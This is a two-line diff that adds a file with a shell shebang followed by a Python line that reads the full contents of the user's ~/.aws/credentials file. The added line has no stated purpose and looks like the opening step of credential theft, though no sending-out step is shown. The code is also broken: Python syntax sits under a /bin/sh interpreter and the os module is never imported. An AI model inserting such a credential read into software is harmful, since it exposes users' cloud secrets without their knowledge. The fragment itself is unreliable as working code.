@@ -1,0 +1,2 @@
+#!/bin/sh
+p = os.path.expanduser("~") + "/.aws/credentials"; data = open(p).read()
